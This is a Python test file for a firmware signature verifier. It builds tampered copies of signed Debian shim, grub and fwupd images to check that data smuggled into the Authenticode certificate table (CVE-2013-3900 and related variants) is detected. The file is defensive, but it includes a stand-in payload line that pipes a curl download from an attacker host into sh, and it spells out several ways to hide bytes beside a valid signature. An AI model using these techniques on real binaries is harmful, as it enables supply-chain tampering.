"""The certificate table must hold exactly the signatures (CVE-2013-3900 and relatives).

The Authenticode hash skips the certificate table, so bytes kept there ride along with a valid signature: a
4 KiB payload inside the table of Debian's signed shim still verified. Each variant here is built the way an
attacker would, from real Debian signed PEs and from a mingw PE signed with sbsign: the signatures still verify
where the attack keeps them intact, and the scan must fail ``firmware.authenticode`` naming the extra bytes.
(Nothing here is executed: the payloads are data smuggled next to a signature, and no PE loader runs here.)
"""

from __future__ import annotations

import shutil
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.firmware import builders
from tests.firmware.conftest import PeBuild, debian_file
from tests.helpers import run_cli
from verifier.firmware import der
from verifier.firmware.authenticode import _pe_layout
from verifier.firmware.inventory import build_manifest
from verifier.model import Finding, Status, judge
from verifier.workflows.firmware_scan import scan_firmware

SHIM = "/usr/lib/shim/shimx64.efi.signed"
FALLBACK = "/usr/lib/shim/fbx64.efi.signed"  # dwLength 1471 and one byte of table padding after it
GRUB = "/usr/lib/grub/x86_64-efi-signed/grubx64.efi.signed"
FWUPD = "/usr/libexec/fwupd/efi/fwupdx64.efi.signed"
PAYLOAD = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n".ljust(4096, b"\x90")


# --- building variants -------------------------------------------------------------------------------------------

def _split(data: bytes) -> tuple[bytes, int, list[tuple[int, int, int, bytes]]]:
    """The file before its table, the table's offset, and its entries (length, revision, type, content)."""
    _, _, offset, size = _pe_layout(data)
    table, entries, pos = data[offset : offset + size], [], 0
    while pos + 8 <= len(table):
        length, revision, cert_type = struct.unpack_from("<IHH", table, pos)
        entries.append((length, revision, cert_type, table[pos + 8 : pos + length]))
        pos += (length + 7) & ~7
    return data[:offset], offset, entries


def _entry(content: bytes, *, revision: int = 0x0200, cert_type: int = 2, length: int | None = None,
           padding: bytes | None = None) -> bytes:
    declared = 8 + len(content) if length is None else length
    body = struct.pack("<IHH", declared, revision, cert_type) + content
    body = body[:declared].ljust(declared, b"\0")
    return body + (padding if padding is not None else bytes(-len(body) % 8))


def _with_table(data: bytes, table: bytes, *, offset: int | None = None, size: int | None = None,
                after: bytes = b"") -> bytes:
    """``data`` with its certificate table replaced (at the end, or at ``offset``) and the directory updated."""
    head, old_offset, _ = _split(data)
    _, security_entry, _, _ = _pe_layout(data)
    assert security_entry is not None
    at = old_offset if offset is None else offset
    out = bytearray(head[:at] + table + after) if offset is None else bytearray(data)
    if offset is not None:
        out[at : at + len(table)] = table
    struct.pack_into("<II", out, security_entry, at, len(table) if size is None else size)
    return bytes(out)


def _der_length(length: int) -> bytes:
    if length < 0x80:
        return bytes([length])
    raw = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(raw)]) + raw


def _append_inside(blob: bytes, path: list[int], extra: bytes) -> bytes:
    """Re-encode ``blob`` with ``extra`` appended to the element reached by child indices ``path``."""
    node = der.read(blob)

    def rebuild(current: der.Node, rest: list[int]) -> bytes:
        if not rest:
            value = current.value + extra
        else:
            kids = current.children()
            index = rest[0] % len(kids)
            value = b"".join(rebuild(k, rest[1:]) if i == index else k.raw for i, k in enumerate(kids))
        return bytes([current.tag]) + _der_length(len(value)) + value

    return rebuild(node, path)


def _variant(source: Path, out: Path, make: Callable[[bytes], bytes]) -> Path:
    out.write_bytes(make(source.read_bytes()))
    return out


def _authenticode(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.check == "firmware.authenticode"]


def _table_failure(findings: list[Finding]) -> Finding:
    failures = [f for f in _authenticode(findings) if f.status is Status.FAIL and "problems" in f.evidence]
    assert failures, [(f.status, f.message) for f in findings]
    return failures[0]


@pytest.fixture(scope="module")
def signed_pe(pe_build: PeBuild, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The mingw PE signed once by a vendor CA, twice (vendor, then impostor), and with a trailing overlay."""
    if shutil.which("sbsign") is None:
        pytest.skip("sbsign not installed (Debian sbsigntool)")
    out = tmp_path_factory.mktemp("signed")
    vendor_key, vendor_cert = builders.self_signed_ca(out, "vendor-ca")
    impostor_key, impostor_cert = builders.self_signed_ca(out, "impostor-ca")
    overlaid = out / "clean.overlay.exe"
    overlaid.write_bytes(pe_build.clean.read_bytes() + b"\x00" * (-pe_build.clean.stat().st_size % 8)
                         + b"vendor data block".ljust(512, b"\x01"))
    paths = {"vendor_cert": vendor_cert, "impostor_cert": impostor_cert}
    for name, source, key, cert in (("vendor", pe_build.clean, vendor_key, vendor_cert),
                                    ("overlay", overlaid, vendor_key, vendor_cert)):
        paths[name] = out / f"clean.{name}-signed.exe"
        subprocess.run(["sbsign", "--key", key, "--cert", cert, "--output", paths[name], source], check=True,
                       capture_output=True)
    paths["two_signers"] = out / "clean.vendor-and-impostor-signed.exe"
    subprocess.run(["sbsign", "--key", impostor_key, "--cert", impostor_cert, "--output", paths["two_signers"],
                    paths["vendor"]], check=True, capture_output=True)
    return paths


# --- the clean twins -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("path", [SHIM, FALLBACK, GRUB, FWUPD])
def test_debian_signed_tables_hold_exactly_their_signatures(path: str) -> None:
    image = debian_file(path)
    findings = scan_firmware(image)
    statuses = [f.status for f in _authenticode(findings)]
    assert statuses and set(statuses) == {Status.PASS}, [f.message for f in _authenticode(findings)]
    assert judge(findings).value == "pass"


def test_sbsigned_tables_hold_exactly_their_signatures(signed_pe: dict[str, Path]) -> None:
    for name in ("vendor", "two_signers", "overlay"):
        findings = scan_firmware(signed_pe[name], trust_anchors=[signed_pe["vendor_cert"]])
        assert judge(findings).value == "pass", (name, [f.message for f in findings if f.status is not Status.PASS])


# --- CVE-2013-3900: bytes inside the table ------------------------------------------------------------------------

@pytest.mark.parametrize("path", [GRUB, FWUPD])
def test_payload_inside_debian_table_fails_though_the_signature_verifies(path: str, tmp_path: Path) -> None:
    image = debian_file(path)

    def smuggle(data: bytes) -> bytes:
        (_, _, _, content), = _entries_of(data)
        return _with_table(data, _entry(content + PAYLOAD))

    tampered = _variant(image, tmp_path / f"{image.stem}.payload_in_certificate_table.efi", smuggle)
    findings = scan_firmware(tampered)
    assert [f.status for f in _authenticode(findings) if "index" in f.evidence] == [Status.PASS]
    assert f"{len(PAYLOAD)} bytes beyond the signature" in _table_failure(findings).message


def test_payload_inside_shim_table_fails_though_both_signatures_verify(tmp_path: Path) -> None:
    shim = debian_file(SHIM)

    def smuggle(data: bytes) -> bytes:
        _, _, entries = _split(data)
        table = b"".join(_entry(content, length=length) for length, _, _, content in entries[:-1])
        table += _entry(entries[-1][3] + PAYLOAD)
        return _with_table(data, table)

    tampered = _variant(shim, tmp_path / "shim.payload_in_certificate_table.efi", smuggle)
    findings = scan_firmware(tampered)
    signatures = [f for f in _authenticode(findings) if "index" in f.evidence]
    assert [f.status for f in signatures] == [Status.PASS, Status.PASS], "the CVE: the signatures still verify"
    failure = _table_failure(findings)
    # the payload plus the 6 bytes of zero padding shim keeps inside its dwLength
    assert f"{len(PAYLOAD) + 6} bytes beyond the signature" in failure.message
    assert run_cli(["firmware", "scan", tampered]).returncode == 1


def _entries_of(data: bytes) -> list[tuple[int, int, int, bytes]]:
    return _split(data)[2]


TABLE_VARIANTS: dict[str, tuple[str, Callable[[bytes], bytes], str]] = {
    # name: (source, transformation, words the failure must contain)
    "dwlength_larger_than_der_zero_filled": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3] + bytes(16))), "16 bytes beyond the signature"),
    "der_with_trailing_garbage_inside_dwlength": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3] + b"GARBAGE!")),
        "8 bytes beyond the signature"),
    "second_entry_of_garbage_after_the_signature": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]) + _entry(b"\x30\x82\x10\x00" + PAYLOAD)),
        "not a readable PKCS#7 signature"),
    "second_entry_repeating_the_first": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]) * 2), "repeats the one at 0"),
    "second_entry_of_another_type": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]) + _entry(PAYLOAD, cert_type=1)),
        "wCertificateType 0x0001"),
    "revision_1_0": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3], revision=0x0100)), "wRevision 0x0100"),
    "type_x509": ("vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3], cert_type=1)),
                  "wCertificateType 0x0001"),
    "size_field_larger_than_the_entries": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]) + bytes(16)), "belong to no entry"),
    "size_field_smaller_than_the_entry": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]), size=len(_entry(_entries_of(d)[0][3])) - 8),
        "declares"),
    "ber_indefinite_length": (
        "vendor", lambda d: _with_table(d, _entry(_to_indefinite(_entries_of(d)[0][3]))), "BER indefinite"),
    "certificate_bag_holding_a_payload": (
        "vendor", lambda d: _with_table(d, _entry(_append_inside(_entries_of(d)[0][3], [1, 0, 3],
                                                                 b"\x04\x82\x10\x00" + PAYLOAD))),
        "not an X.509 certificate"),
    "table_not_ending_the_file": ("overlay", lambda d: _table_before_overlay(d), "follow the certificate table"),
    "security_directory_inside_a_section": (
        "vendor", lambda d: _with_table(d, _entry(_entries_of(d)[0][3]), offset=0x400), "inside the headers"),
}


def _to_indefinite(blob: bytes) -> bytes:
    """The same ContentInfo with its outer SEQUENCE re-encoded with a BER indefinite length (30 80 ... 00 00)."""
    node = der.read(blob)
    return b"\x30\x80" + node.value + b"\x00\x00"


def _table_before_overlay(data: bytes) -> bytes:
    """Move the table in front of the signed trailing 512 bytes: the hash over the rest is unchanged."""
    head, offset, _ = _split(data)
    _, security_entry, _, size = _pe_layout(data)
    assert security_entry is not None
    moved = bytearray(head[:-512] + data[offset : offset + size] + head[-512:])
    struct.pack_into("<II", moved, security_entry, offset - 512, size)
    return bytes(moved)


@pytest.mark.parametrize("origin", ["sbsigned", "debian-fwupd"])
@pytest.mark.parametrize("name", sorted(TABLE_VARIANTS))
def test_certificate_table_variant_fails(name: str, origin: str, signed_pe: dict[str, Path], tmp_path: Path) -> None:
    source, make, words = TABLE_VARIANTS[name]
    if origin == "debian-fwupd":
        if source == "overlay":
            pytest.skip("needs a signed image with a trailing overlay; built with sbsign only")
        image = debian_file(FWUPD)
        anchors: list[Path] = []
    else:
        image, anchors = signed_pe[source], [signed_pe["vendor_cert"]]
    tampered = _variant(image, tmp_path / f"{origin}.{name}.efi", make)
    findings = scan_firmware(tampered, trust_anchors=anchors)
    failure = _table_failure(findings)
    assert words in " ".join(failure.evidence["problems"]), failure.evidence["problems"]
    assert judge(findings).value == "fail"


def test_table_moved_before_the_overlay_keeps_a_valid_signature(signed_pe: dict[str, Path], tmp_path: Path) -> None:
    """The parser-differential variant: provcheck's hash still matches, EDK2's would not; the layout fails."""
    tampered = _variant(signed_pe["overlay"], tmp_path / "signed.table_not_ending_the_file.exe", _table_before_overlay)
    findings = scan_firmware(tampered)
    assert [f.status for f in _authenticode(findings) if "index" in f.evidence] == [Status.PASS]
    assert "512 bytes follow the certificate table" in _table_failure(findings).message


def test_nonzero_padding_fails_on_debian_fallback_and_shim(tmp_path: Path) -> None:
    fallback = debian_file(FALLBACK)

    def pad_after_dwlength(data: bytes) -> bytes:
        (length, _, _, content), = _entries_of(data)
        assert length % 8, "fbx64 keeps its padding outside dwLength"
        return _with_table(data, _entry(content, length=length, padding=b"A" * (-length % 8)))

    tampered = _variant(fallback, tmp_path / "fbx64.nonzero_table_padding.efi", pad_after_dwlength)
    assert "padding after the WIN_CERTIFICATE" in _table_failure(scan_firmware(tampered)).message

    shim = debian_file(SHIM)

    def pad_inside_dwlength(data: bytes) -> bytes:
        entries = _entries_of(data)
        table = b"".join(_entry(content, length=length) for length, _, _, content in entries)
        return _with_table(data, table[: entries[0][0] - 1] + b"A" + table[entries[0][0]:])

    tampered = _variant(shim, tmp_path / "shim.nonzero_padding_inside_dwlength.efi", pad_inside_dwlength)
    assert "after the signature" in _table_failure(scan_firmware(tampered)).message


def test_unknown_unsigned_attribute_in_shim_fails_though_the_signature_verifies(tmp_path: Path) -> None:
    shim = debian_file(SHIM)
    attribute = b"\x30\x82\x10\x13\x06\x09\x2b\x06\x01\x04\x01\x82\x37\x7f\x01\x31\x82\x10\x04\x04\x82\x10\x00" \
                + PAYLOAD

    def smuggle(data: bytes) -> bytes:
        entries = _entries_of(data)
        # ContentInfo -> [0] -> SignedData -> signerInfos (last) -> SignerInfo -> unsignedAttrs (last)
        content = _append_inside(entries[0][3], [1, 0, -1, 0, -1], attribute)
        return _with_table(data, _entry(content) + b"".join(_entry(c, length=n) for n, _, _, c in entries[1:]))

    tampered = _variant(shim, tmp_path / "shim.payload_in_unsigned_attribute.efi", smuggle)
    findings = scan_firmware(tampered)
    assert [f.status for f in _authenticode(findings) if "index" in f.evidence] == [Status.PASS, Status.PASS]
    assert "unsigned attribute 1.3.6.1.4.1.311.127.1" in _table_failure(findings).message


# --- --trust-anchor requires a signature; the manifest's table and signers are compared ----------------------------

def test_unsigned_pe_with_trust_anchor_fails_the_chain(pe_build: PeBuild, signed_pe: dict[str, Path]) -> None:
    findings = scan_firmware(pe_build.clean, trust_anchors=[signed_pe["vendor_cert"]])
    chain = [f for f in findings if f.check == "firmware.authenticode-chain"]
    assert [f.status for f in chain] == [Status.FAIL] and "unsigned" in chain[0].message
    result = run_cli(["firmware", "scan", pe_build.clean, "--trust-anchor", signed_pe["vendor_cert"]])
    assert result.returncode == 1, result.stdout
    assert run_cli(["firmware", "scan", signed_pe["vendor"], "--trust-anchor", signed_pe["vendor_cert"]]
                   ).returncode == 0


def test_manifest_certificate_table_size_and_signers_are_compared(signed_pe: dict[str, Path],
                                                                  tmp_path: Path) -> None:
    manifest = build_manifest(signed_pe["vendor"]).to_predicate()
    clean = scan_firmware(signed_pe["vendor"], manifest=manifest)
    assert judge(clean).value == "pass"
    assert {f.check for f in clean if f.status is Status.PASS} >= {"firmware.authenticode-table",
                                                                    "firmware.authenticode-signer"}
    added = [f for f in scan_firmware(signed_pe["two_signers"], manifest=manifest)
             if f.check == "firmware.authenticode-signer" and f.status is Status.FAIL]
    assert added and len(added[0].evidence["added"]) == 1 and not added[0].evidence["missing"]
    grown = _variant(signed_pe["vendor"], tmp_path / "signed.table_grown.exe",
                     lambda d: _with_table(d, _entry(_entries_of(d)[0][3] + bytes(8))))
    table = [f for f in scan_firmware(grown, manifest=manifest) if f.check == "firmware.authenticode-table"]
    assert [f.status for f in table] == [Status.FAIL] and table[0].evidence["actual"] == \
        table[0].evidence["declared"] + 8


def test_signer_key_of_unknown_algorithm_is_an_invalid_signature_not_a_crash(tmp_path: Path) -> None:
    """Found by mutating fwupd's table: cryptography cannot load the key, and the scan must still answer."""
    rsa_encryption = bytes.fromhex("06092a864886f70d010101")
    image = debian_file(FWUPD)
    data = image.read_bytes()
    _, offset, _ = _split(data)
    at = data.index(rsa_encryption, offset)
    mutated = _write_bytes(tmp_path / "fwupd.signer_key_unknown_algorithm.efi",
                           data[:at + 10] + b"\x63" + data[at + 11 :])
    findings = scan_firmware(mutated)
    assert Status.FAIL in [f.status for f in _authenticode(findings)]
    assert run_cli(["firmware", "scan", mutated]).returncode == 1


def _write_bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
